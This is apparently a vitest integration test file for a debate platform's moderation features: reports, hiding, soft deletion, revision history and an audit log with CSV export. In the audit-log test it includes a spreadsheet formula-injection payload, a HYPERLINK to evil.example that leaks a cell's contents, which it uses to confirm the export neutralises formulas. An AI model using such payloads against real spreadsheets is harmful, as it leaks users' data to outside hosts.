/**
 * Moderation over the JSON API and socket.io against a real PostgreSQL:
 * reports, the facilitators' queue, hiding (withheld for others live, in
 * snapshots and in catch-up; full for the author and facilitators),
 * unhiding, counting out, deleting one's own argument, edit history, the
 * audit log and its CSV export.
 */
import { describe, expect, it } from "vitest";
import { type ArgumentDTO, type ArgumentHiddenPayload, type ArgumentRevisionsDTO, type CatchUpPayload, type DebateChange, type DebateDTO, ServerEvent } from "../../app/shared/contract";
import { ClientEvent } from "../../app/shared/operations";
import { plainTextToArgumentBody } from "../../app/shared/lexical";
import { hiddenThreadIds, isCounted } from "../../app/shared/moderation";
import { useTestServer } from "../support/test-server";
import { api as callApi, publishedDebateWith } from "../support/api-client";
import { seedArticle } from "../support/article";
import { emitWithAck, nextEvent } from "../support/socket-client";

const { server, connect: connectTo } = useTestServer({ serveApp: false, rateLimits: "off" });

const api = (path: string, init?: Parameters<typeof callApi>[2]) => callApi(server.url, path, init);
const body = (text: string) => plainTextToArgumentBody(text);

/** A published debate with a host and four debaters (Dee is made an observer). */
async function setUp() {
  const { debate, participants } = await publishedDebateWith(server.url, seedArticle, ["Ada", "Ben", "Cy", "Dee"]);
  const [ada, ben, cy, dee] = participants as [(typeof participants)[0], (typeof participants)[0], (typeof participants)[0], (typeof participants)[0]];
  await server.db.participant.update({ where: { id: dee.id }, data: { role: "observer" } });
  const propositionId = debate.propositions[0]!.id;
  const base = `/api/debates/${debate.id}`;
  const post = async (token: string, text: string, extra: Record<string, unknown> = {}) => {
    const res = await api(`${base}/arguments`, { token, body: { propositionId, stance: "pro", body: body(text), ...extra } });
    expect(res.status).toBe(201);
    return res.json as ArgumentDTO;
  };
  const connect = (token?: string, lastSeq?: number) => connectTo(debate.id, token, lastSeq);
  const snapshot = async (token?: string) => (await api(base, token ? { token } : {})).json as DebateDTO;
  return { debate, host: debate.hostToken, ada, ben, cy, dee, propositionId, base, post, connect, snapshot };
}

const find = (d: DebateDTO, id: string) => d.arguments.find((a) => a.id === id)!;
const countedPro = (d: DebateDTO, propositionId: string) => {
  const hidden = hiddenThreadIds(d.arguments);
  return d.arguments.filter((a) => a.propositionId === propositionId && !a.parentId && a.stance === "pro" && isCounted(a, hidden)).length;
};

describe("reports", () => {
  it("files one report per reporter (a repeat answers with it), refuses one's own argument and observers, and tells only facilitators", async () => {
    const t = await setUp();
    const arg = await t.post(t.ada.token, "Benchmarks reward narrow skills.");
    const hostSocket = await t.connect(t.host);
    const benSocket = await t.connect(t.ben.token);
    let benGotNotice = false;
    benSocket.socket.on(ServerEvent.moderation, () => (benGotNotice = true));
    const notice = nextEvent(hostSocket.socket, ServerEvent.moderation);

    const first = await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.ben.token, body: { reason: "  Off   topic  " } });
    expect(first.status).toBe(201);
    expect(first.json).toMatchObject({ argumentId: arg.id, reason: "Off topic", status: "open" });
    expect(await notice).toMatchObject({ kind: "report.filed", argumentId: arg.id, argumentOpenReports: 1, openReports: 1 });

    const again = await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.ben.token, body: { reason: "Something else" } });
    expect(again.status).toBe(200);
    expect(again.json.id).toBe(first.json.id);
    expect(again.json.reason).toBe("Off topic");
    // Over the socket too, with an opId replayed.
    const opId = crypto.randomUUID();
    const viaSocket = await emitWithAck<{ id: string }>(benSocket.socket, ClientEvent.reportArgument, { opId, argumentId: arg.id, reason: "Again" });
    expect(viaSocket.ok && viaSocket.data.id).toBe(first.json.id);
    expect(await server.db.report.count({ where: { argumentId: arg.id } })).toBe(1);

    const own = await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.ada.token, body: { reason: "Mine" } });
    expect(own.status).toBe(403);
    expect(own.json.error.message).toMatch(/your own argument/);
    const observer = await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.dee.token, body: { reason: "Rude" } });
    expect(observer.status).toBe(403);
    const anonymous = await api(`${t.base}/arguments/${arg.id}/reports`, { body: { reason: "Rude" } });
    expect(anonymous.status).toBe(401);
    for (const reason of ["", "   ", "x".repeat(501), "evil \u202e text", "bell\u0007"]) {
      const bad = await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.cy.token, body: { reason } });
      expect(bad.status, JSON.stringify(reason)).toBe(400);
      expect(bad.json.error.field).toBe("reason");
    }
    expect(benGotNotice).toBe(false);
  });

  it("shows the queue, grouped by argument, to facilitators only", async () => {
    const t = await setUp();
    const arg = await t.post(t.ada.token, "A claim that some find rude.");
    await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.ben.token, body: { reason: "Rude" } });
    await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.cy.token, body: { reason: "Personal attack" } });
    const queue = await api(`${t.base}/reports`, { token: t.host });
    expect(queue.status).toBe(200);
    expect(queue.json.openReports).toBe(2);
    expect(queue.json.items).toHaveLength(1);
    expect(queue.json.items[0].argument).toMatchObject({ id: arg.id, excerpt: "A claim that some find rude.", author: { displayName: "Ada" } });
    expect(queue.json.items[0].count).toBe(2);
    expect(queue.json.items[0].reports.map((r: { reason: string; reporter: { displayName: string } }) => [r.reason, r.reporter.displayName])).toEqual([
      ["Rude", "Ben"],
      ["Personal attack", "Cy"],
    ]);
    for (const token of [t.ada.token, t.ben.token, t.dee.token]) expect((await api(`${t.base}/reports`, { token })).status).toBe(403);
    expect((await api(`${t.base}/reports`)).status).toBe(401);

    // Dismissing empties the queue and keeps the argument visible.
    const dismissed = await api(`${t.base}/arguments/${arg.id}/reports/dismiss`, { token: t.host, body: {} });
    expect(dismissed.json).toEqual({ argumentId: arg.id, dismissed: 2 });
    expect((await api(`${t.base}/reports`, { token: t.host })).json.items).toEqual([]);
    expect(find(await t.snapshot(t.ben.token), arg.id).bodyText).toBe("A claim that some find rude.");
    expect((await api(`${t.base}/arguments/${arg.id}/reports/dismiss`, { token: t.ben.token, body: {} })).status).toBe(403);
  });
});

describe("hiding", () => {
  it("withholds the argument and its replies from others (live, snapshot, catch-up), keeps them for the author and facilitators, and counts them out", async () => {
    const t = await setUp();
    const before = (await t.snapshot()).seq;
    const arg = await t.post(t.ada.token, "Secret sauce of the argument.", { sources: [{ url: "https://example.org/a", title: "A source" }] });
    const reply = await t.post(t.cy.token, "A reply under it.", { parentId: arg.id, stance: "con" });
    const grandReply = await t.post(t.ben.token, "A reply to the reply.", { parentId: reply.id, stance: "pro" });
    await api(`${t.base}/arguments/${arg.id}/rating`, { method: "PUT", token: t.ben.token, body: { value: "up" } });
    await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.ben.token, body: { reason: "Spam" } });
    expect(countedPro(await t.snapshot(t.ben.token), t.propositionId)).toBe(1);

    const hostSocket = await t.connect(t.host);
    const benSocket = await t.connect(t.ben.token);
    const adaSocket = await t.connect(t.ada.token);
    const observerSocket = await t.connect();
    const isHidden = (c: DebateChange) => c.kind === "argument.hidden";
    const received = [benSocket, adaSocket, observerSocket].map((s) => nextEvent(s.socket, ServerEvent.change, isHidden));

    const hidden = await emitWithAck<ArgumentHiddenPayload>(hostSocket.socket, ClientEvent.hideArgument, { opId: crypto.randomUUID(), argumentId: arg.id, reason: "Spam link" });
    expect(hidden.ok).toBe(true);
    if (!hidden.ok) return;
    expect([...hidden.data.threadIds].sort()).toEqual([arg.id, reply.id, grandReply.id].sort());
    expect(hidden.data.threadIds[0]).toBe(arg.id);
    for (const change of await Promise.all(received)) {
      expect(change.kind).toBe("argument.hidden");
      expect(change.data).toEqual(hidden.data);
    }
    // The report was upheld, and hiding again is a conflict.
    expect((await server.db.report.findFirstOrThrow({ where: { argumentId: arg.id } })).status).toBe("upheld");
    expect((await api(`${t.base}/arguments/${arg.id}/hide`, { token: t.host, body: { reason: "Again" } })).status).toBe(409);

    // Snapshots: withheld for Ben and observers, full for Ada (her own) and the host.
    for (const token of [t.ben.token, undefined]) {
      const d = await t.snapshot(token);
      const a = find(d, arg.id);
      expect(a).toMatchObject({ withheld: true, bodyText: "", sources: [], tally: { up: 0, down: 0, score: 0 }, hidden: { reason: "Spam link" }, stance: "pro", author: { displayName: "Ada" } });
      expect(JSON.stringify(a.body)).not.toContain("Secret");
      expect(find(d, reply.id)).toMatchObject({ withheld: true, bodyText: "", parentId: arg.id });
      expect(find(d, grandReply.id).withheld).toBe(token === t.ben.token ? false : true);
      expect(countedPro(d, t.propositionId)).toBe(0);
      expect(JSON.stringify(d)).not.toContain("Secret sauce");
    }
    const asAda = await t.snapshot(t.ada.token);
    expect(find(asAda, arg.id)).toMatchObject({ withheld: false, bodyText: "Secret sauce of the argument.", hidden: { reason: "Spam link" }, tally: { up: 1 } });
    expect(find(asAda, arg.id).sources).toHaveLength(1);
    expect(find(asAda, reply.id).withheld).toBe(true); // Cy's reply: Ada is not its author
    expect(countedPro(asAda, t.propositionId)).toBe(0);
    const asHost = await t.snapshot(t.host);
    expect(find(asHost, arg.id).bodyText).toBe("Secret sauce of the argument.");
    expect(find(asHost, reply.id).bodyText).toBe("A reply under it.");

    // Catch-up from before the argument existed: replayed payloads are withheld for Ben, full for the host.
    const benCatchUp = (await (await t.connect(t.ben.token, before)).catchUp) as Extract<CatchUpPayload, { mode: "changes" }>;
    expect(benCatchUp.mode).toBe("changes");
    expect(JSON.stringify(benCatchUp)).not.toContain("Secret sauce");
    const created = benCatchUp.changes.find((c) => c.kind === "argument.created" && c.data.id === arg.id)!;
    expect(created.data).toMatchObject({ withheld: true, bodyText: "" });
    expect(benCatchUp.tallies.arguments.find((x) => x.argumentId === arg.id)).toBeUndefined();
    expect(benCatchUp.changes.some((c) => c.kind === "argument.hidden")).toBe(true);
    const hostCatchUp = (await (await t.connect(t.host, before)).catchUp) as Extract<CatchUpPayload, { mode: "changes" }>;
    expect(JSON.stringify(hostCatchUp)).toContain("Secret sauce");

    // No replies and no ratings inside the hidden thread.
    const refusedReply = await api(`${t.base}/arguments`, { token: t.ben.token, body: { propositionId: t.propositionId, parentId: reply.id, stance: "con", body: body("More") } });
    expect(refusedReply.status).toBe(403);
    expect(refusedReply.json.error.message).toMatch(/hidden/);
    expect((await api(`${t.base}/arguments/${arg.id}/rating`, { method: "PUT", token: t.cy.token, body: { value: "down" } })).status).toBe(403);
    // A report on a hidden argument is refused.
    expect((await api(`${t.base}/arguments/${arg.id}/reports`, { token: t.cy.token, body: { reason: "Late" } })).status).toBe(403);

    // Ada edits her hidden argument: the host and Ada get it in full, Ben and the observer withheld.
    const updates = [hostSocket, adaSocket, benSocket, observerSocket].map((s) => nextEvent(s.socket, ServerEvent.change, (c) => c.kind === "argument.updated"));
    const edited = await api(`${t.base}/arguments/${arg.id}`, { method: "PATCH", token: t.ada.token, body: { body: body("Secret sauce, edited.") } });
    expect(edited.status).toBe(200);
    const [toHost, toAda, toBen, toObserver] = (await Promise.all(updates)) as Extract<DebateChange, { kind: "argument.updated" }>[];
    expect(toHost!.data.bodyText).toBe("Secret sauce, edited.");
    expect(toAda!.data.bodyText).toBe("Secret sauce, edited.");
    for (const c of [toBen!, toObserver!]) {
      expect(c.data).toMatchObject({ withheld: true, bodyText: "" });
      expect(c.seq).toBe(toHost!.seq);
    }

    // Only facilitators hide.
    expect((await api(`${t.base}/arguments/${reply.id}/hide`, { token: t.ben.token, body: { reason: "No" } })).status).toBe(403);
    expect((await api(`${t.base}/arguments/${reply.id}/hide`, { token: t.host, body: { reason: "" } })).status).toBe(400);
  });

  it("unhides for everyone with the thread's full arguments", async () => {
    const t = await setUp();
    const arg = await t.post(t.ada.token, "Visible again soon.");
    const reply = await t.post(t.cy.token, "Its reply.", { parentId: arg.id, stance: "con" });
    await api(`${t.base}/arguments/${arg.id}/hide`, { token: t.host, body: { reason: "Check facts" } });
    const benSocket = await t.connect(t.ben.token);
    const unhiddenEvent = nextEvent(benSocket.socket, ServerEvent.change, (c) => c.kind === "argument.unhidden");
    const res = await api(`${t.base}/arguments/${arg.id}/unhide`, { token: t.host, body: { reason: "Facts checked" } });
    expect(res.status).toBe(200);
    const change = (await unhiddenEvent) as Extract<DebateChange, { kind: "argument.unhidden" }>;
    expect(change.data.argumentId).toBe(arg.id);
    expect(change.data.arguments.map((a) => [a.id, a.bodyText, a.withheld, a.hidden])).toEqual([
      [arg.id, "Visible again soon.", false, null],
      [reply.id, "Its reply.", false, null],
    ]);
    const d = await t.snapshot(t.ben.token);
    expect(find(d, arg.id)).toMatchObject({ withheld: false, hidden: null, bodyText: "Visible again soon." });
    expect(find(d, reply.id).bodyText).toBe("Its reply.");
    expect(countedPro(d, t.propositionId)).toBe(1);
    expect((await api(`${t.base}/arguments/${arg.id}/unhide`, { token: t.host, body: {} })).status).toBe(409);
  });
});

describe("deleting and editing", () => {
  it("deletes one's own argument softly: replies stay, the text is kept as a revision for the author and facilitators", async () => {
    const t = await setUp();
    const arg = await t.post(t.ada.token, "I will regret this.", { sources: [{ url: "https://example.org/s", title: "Source" }] });
    const reply = await t.post(t.ben.token, "A reply that stays.", { parentId: arg.id, stance: "con" });
    expect((await api(`${t.base}/arguments/${arg.id}`, { method: "DELETE", token: t.ben.token, body: {} })).status).toBe(403);

    const benSocket = await t.connect(t.ben.token);
    const adaSocket = await t.connect(t.ada.token);
    const broadcast = nextEvent(benSocket.socket, ServerEvent.change, (c) => c.kind === "argument.updated");
    const deleted = await emitWithAck<ArgumentDTO>(adaSocket.socket, ClientEvent.deleteArgument, { opId: crypto.randomUUID(), argumentId: arg.id });
    expect(deleted.ok && deleted.data).toMatchObject({ deleted: true, bodyText: "", sources: [] });
    expect((await broadcast).data).toMatchObject({ id: arg.id, deleted: true, bodyText: "" });

    const d = await t.snapshot(t.ben.token);
    expect(find(d, arg.id)).toMatchObject({ deleted: true, bodyText: "", sources: [] });
    expect(find(d, reply.id).bodyText).toBe("A reply that stays.");
    expect(countedPro(d, t.propositionId)).toBe(0);

    for (const token of [t.ada.token, t.host]) {
      const revisions = await api(`${t.base}/arguments/${arg.id}/revisions`, { token });
      expect(revisions.status).toBe(200);
      expect((revisions.json as ArgumentRevisionsDTO).current.deleted).toBe(true);
      expect((revisions.json as ArgumentRevisionsDTO).revisions.map((r) => r.bodyText)).toEqual(["I will regret this."]);
    }
    expect((await api(`${t.base}/arguments/${arg.id}/revisions`, { token: t.ben.token })).status).toBe(403);
    // Deleted means deleted: no edit, no new reply, no rating, no second delete.
    expect((await api(`${t.base}/arguments/${arg.id}`, { method: "PATCH", token: t.ada.token, body: { body: body("Back") } })).status).toBe(403);
    expect((await api(`${t.base}/arguments`, { token: t.cy.token, body: { propositionId: t.propositionId, parentId: arg.id, stance: "con", body: body("Hm") } })).status).toBe(403);
    expect((await api(`${t.base}/arguments/${arg.id}/rating`, { method: "PUT", token: t.cy.token, body: { value: "up" } })).status).toBe(403);
    expect((await api(`${t.base}/arguments/${arg.id}`, { method: "DELETE", token: t.ada.token, body: {} })).status).toBe(403);
  });

  it("keeps every earlier body when the author edits, readable by the author and facilitators only", async () => {
    const t = await setUp();
    const arg = await t.post(t.ada.token, "First wording.");
    await api(`${t.base}/arguments/${arg.id}`, { method: "PATCH", token: t.ada.token, body: { body: body("Second wording.") } });
    const third = await api(`${t.base}/arguments/${arg.id}`, { method: "PATCH", token: t.ada.token, body: { body: body("Third wording.") } });
    expect(third.json).toMatchObject({ editCount: 2, bodyText: "Third wording." });
    const adaSocket = await t.connect(t.ada.token);
    const viaSocket = await emitWithAck<ArgumentRevisionsDTO>(adaSocket.socket, ClientEvent.argumentRevisions, { argumentId: arg.id });
    expect(viaSocket.ok).toBe(true);
    if (!viaSocket.ok) return;
    expect(viaSocket.data.current.bodyText).toBe("Third wording.");
    expect(viaSocket.data.revisions.map((r) => [r.bodyText, r.editor.displayName])).toEqual([
      ["Second wording.", "Ada"],
      ["First wording.", "Ada"],
    ]);
    expect((await api(`${t.base}/arguments/${arg.id}/revisions`, { token: t.host })).json.revisions).toHaveLength(2);
    for (const token of [t.ben.token, t.dee.token]) expect((await api(`${t.base}/arguments/${arg.id}/revisions`, { token })).status).toBe(403);
    expect((await api(`${t.base}/arguments/${arg.id}/revisions`)).status).toBe(401);
  });
});

describe("audit log", () => {
  it("lists every moderation action newest first, to facilitators only, and exports it as CSV with formulas neutralised", async () => {
    const t = await setUp();
    const a1 = await t.post(t.ada.token, "One.");
    const a2 = await t.post(t.ben.token, "Two.");
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await api(`${t.base}/arguments/${a1.id}/reports`, { token: t.ben.token, body: { reason: formula } });
    await api(`${t.base}/arguments/${a2.id}/reports`, { token: t.ada.token, body: { reason: "Rude, and \"loud\"" } });
    await api(`${t.base}/arguments/${a2.id}/reports/dismiss`, { token: t.host, body: {} });
    await api(`${t.base}/arguments/${a1.id}/hide`, { token: t.host, body: { reason: "-1+2" } });
    await api(`${t.base}/arguments/${a1.id}/unhide`, { token: t.host, body: { reason: "Second look" } });
    await api(`${t.base}/arguments/${a2.id}`, { method: "DELETE", token: t.ben.token, body: {} });

    const log = await api(`${t.base}/audit`, { token: t.host });
    expect(log.status).toBe(200);
    // The debate was created published: that is the first entry (docs/decisions/0021).
    expect(log.json.total).toBe(7);
    expect(log.json.entries.map((e: { action: string; actor: { displayName: string } }) => [e.action, e.actor.displayName])).toEqual([
      ["argument.deleted", "Ben"],
      ["argument.unhidden", "Test Facilitator"],
      ["argument.hidden", "Test Facilitator"],
      ["report.dismissed", "Test Facilitator"],
      ["report.filed", "Ada"],
      ["report.filed", "Ben"],
      ["debate.published", "Test Facilitator"],
    ]);
    const page2 = await api(`${t.base}/audit?page=2&pageSize=4`, { token: t.host });
    expect(page2.json.entries.map((e: { action: string }) => e.action)).toEqual(["report.filed", "report.filed", "debate.published"]);
    expect((await api(`${t.base}/audit?pageSize=0`, { token: t.host })).status).toBe(400);
    expect((await api(`${t.base}/audit`, { token: t.ada.token })).status).toBe(403);
    expect((await api(`${t.base}/audit.csv`, { token: t.ben.token })).status).toBe(403);

    const res = await fetch(`${server.url}${t.base}/audit.csv`, { headers: { Authorization: `Bearer ${t.host}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="steelman-audit-${t.debate.id}.csv"`);
    const csv = await res.text();
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe("time,actor,actor_id,action,target_type,target_id,reason,details");
    expect(lines).toHaveLength(8);
    expect(lines[1]).toContain(",debate.published,debate,");
    expect(lines[2]).toContain(",report.filed,argument,");
    // The formula reason is prefixed with an apostrophe (and quoted, as it holds quotes and commas).
    expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(lines[3]).toContain(`"Rude, and ""loud"""`);
    expect(lines.find((l) => l.includes("argument.hidden"))).toContain(",'-1+2,");
    expect(lines[7]).toContain(",argument.deleted,argument,");
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
